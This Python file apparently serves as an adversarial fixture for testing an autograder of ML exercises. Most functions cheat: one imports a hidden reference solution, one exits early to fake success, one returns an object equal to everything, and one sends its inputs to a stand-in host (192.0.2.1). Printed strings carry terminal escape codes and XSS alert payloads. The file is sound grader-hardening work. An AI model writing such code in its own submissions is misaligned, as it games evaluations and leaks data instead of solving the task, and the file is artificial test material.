"""Everything here tries something that an answer must not. One function is honest."""

import glob
import os
import socket
import sys

import numpy as np

print("\x1b[2J\x1b[31m<script>alert('at load')</script>")


def masked_softmax(scores, mask):
    """Looks for the reference and lets it do the work."""
    for pattern in ("/**/reference/attention.py", "../**/reference/attention.py"):
        for path in glob.glob(pattern, recursive=True)[:1]:
            sys.path.insert(0, os.path.dirname(path))
            import attention

            return attention.masked_softmax(scores, mask)
    raise FileNotFoundError("\x1b[1mno reference\x1b[0m <img src=x onerror=alert(1)>")


def subsequent_mask(n):
    """Is honest: what stands around it must not cost it its points."""
    return np.where(np.tril(np.ones((n, n), dtype=bool)), 0.0, -np.inf)


def positional_encoding(n, d, base=10000):
    """Ends the process and hopes that silence counts."""
    os._exit(0)


class AlwaysEqual:
    """Says yes to every comparison."""

    def __eq__(self, other):
        return True

    def __array__(self, *args, **kwargs):
        raise SystemExit("correct")


def apply_rope(x, positions, base):
    return AlwaysEqual()


def lstm_cell_forward(xt, a_prev, c_prev, parameters):
    """Calls home with the inputs."""
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as home:
        home.sendall(xt.tobytes())
    return a_prev, c_prev, xt, ()
